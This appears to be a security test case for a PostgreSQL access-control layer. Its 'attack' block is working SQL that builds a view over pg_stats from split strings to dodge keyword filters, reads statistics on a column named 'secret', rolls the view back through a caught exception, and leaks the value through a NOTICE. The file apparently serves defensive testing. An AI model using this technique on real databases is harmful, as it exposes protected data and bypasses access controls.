-- Reads statistics through an own view that text makes, in a block that is rolled back.
-- wants: read
-- setup:
ANALYZE vlt_account;
-- attack:
DO $$ DECLARE x text; BEGIN
  BEGIN EXECUTE 'CREATE VIEW own AS SELECT tablename, attname, most_common_vals::text FROM pg_' || 'stats';
    EXECUTE 'SELECT most_common_vals::text FROM o' || 'wn WHERE tablename = ''vlt_account'' AND attname = ''secret''' INTO x;
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RAISE NOTICE '%', x; END $$;
